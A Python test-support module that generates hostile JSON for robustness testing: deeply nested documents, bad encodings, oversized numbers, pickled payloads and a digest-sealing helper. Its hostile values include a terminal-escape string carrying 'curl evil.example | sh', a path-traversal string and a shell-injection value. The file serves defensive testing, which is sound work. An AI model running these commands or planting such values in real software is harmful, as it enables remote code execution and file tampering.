"""Hostile JSON: whole documents, and single values in documents that are right otherwise."""

import codecs
import json
import pickle
from collections.abc import Callable
from typing import Any, Final

from hostile.witness import Payload

Attack = Callable[[bytes], bytes]


def nested(levels: int, opening: bytes = b"[", closing: bytes = b"]") -> bytes:
    """Return lists in lists."""
    return opening * levels + closing * levels


def deep_objects(levels: int) -> bytes:
    """Return objects in objects."""
    return b'{"a":' * levels + b"1" + b"}" * levels


def member(name: bytes, value: bytes) -> Attack:
    """Return what puts one more member in front of a document's own."""
    return lambda whole: whole.replace(b"{", b'{"' + name + b'":' + value + b",", 1)


# What stands in place of a whole file.
DOCUMENTS: Final[dict[str, Attack]] = {
    "nothing": lambda _: b"",
    "zeros": lambda _: bytes(4096),
    "a pickle": lambda _: pickle.dumps(Payload()),
    "a pickle of protocol 0": lambda _: pickle.dumps(Payload(), protocol=0),
    "cut short": lambda whole: whole[: len(whole) // 2],
    "another one behind": lambda whole: whole + whole,
    "lists 20,000 deep": lambda _: nested(20_000),
    "lists that never close": lambda _: b"[" * 20_000,
    "objects 20,000 deep": lambda _: deep_objects(20_000),
    "lists 900 deep, which a parser bears": member(b"x", nested(900)),
    "objects 300 deep": member(b"config", deep_objects(300)),
    "a string that never ends": lambda _: nested(200) + b'"' + rb"\"" * 20_000,
    "NaN": member(b"x", b"NaN"),
    "infinity": member(b"x", b"-Infinity"),
    "beyond any float": member(b"x", b"1e999"),
    "10,000 digits": member(b"x", b"9" * 10_000),
    "4,000 digits": member(b"step", b"9" * 4_000),
    "a key twice": member(b"format", b"1"),
    "half a surrogate": member(b"unit", rb'"\ud800"'),
    "no UTF-8": member(b"x", b'"\xff\xfe"'),
    "an encoded surrogate": member(b"x", b'"\xed\xa0\x80"'),
    "UTF-16": lambda whole: whole.decode(errors="replace").encode("utf-16"),
    "a byte order mark": lambda whole: codecs.BOM_UTF8 + whole,
    "a NUL": lambda whole: whole.replace(b",", b",\0", 1),
    "a list": lambda _: b"[]",
    "a number": lambda _: b"17",
    "null": lambda _: b"null",
    "an empty object": lambda _: b"{}",
    "ten thousand empty lists": member(b"x", b"[" + b"[]," * 10_000 + b"0]"),
    "ten thousand keys": lambda _: (
        b"{" + b",".join(b'"k%d":0' % index for index in range(10_000)) + b"}"
    ),
}

# What stands in place of one value.
VALUES: Final[dict[str, Any]] = {
    "null": None,
    "true": True,
    "negative": -1,
    "2**53": 2**53,
    "2**62 - 1": 2**62 - 1,
    "2**63": 2**63,
    "400 digits": 10**400,
    "a huge float": 1e308,
    "a small float": -1e308,
    "half": 0.5,
    "the name of NaN": "NaN",
    "the name of infinity": "-Infinity",
    "no text": "",
    "escape codes": "\x1b[2J\x1b]0;owned\x07\r\n  fix: curl evil.example | sh",
    "half a surrogate": "\ud800",
    "a NUL": "a\0b",
    "a long text": "x" * 20_000,
    "a way up": "../../../../outside/evil",
    "an absolute path": "/outside/evil",
    "a command": "$(touch /outside/evil); `id`",
    "a time beyond all calendars": "9999-12-31T23:59:59-23:59",
    "a time before all calendars": "0001-01-01T00:00:00+23:59",
    "an empty list": [],
    "an empty object": {},
    "a deep list": json.loads(nested(90)),
    "a deep object": json.loads(deep_objects(90)),
    "a pair": [1, 2],
}


def dumps(value: Any) -> bytes:
    """Return JSON as a stranger writes it."""
    return json.dumps(value).encode()


def seal(document: dict[str, Any]) -> bytes:
    """Return a document with the digest that it ends with: an attacker can work that out, too."""
    text = dumps({key: value for key, value in document.items() if key != "digest"})
    return sealed(text)


def sealed(text: bytes) -> bytes:
    """Return an object in JSON, its digest added."""
    from blake3 import blake3

    body = text.rstrip()[:-1] + b',\n"digest":"'
    return body + blake3(body + b"0" * 64 + b'"\n}\n').hexdigest().encode() + b'"\n}\n'


def unsealed(data: bytes) -> bytes:
    """Return a sealed document without its digest, as one object again."""
    return data[: data.rindex(b',\n"digest"')] + b"}"
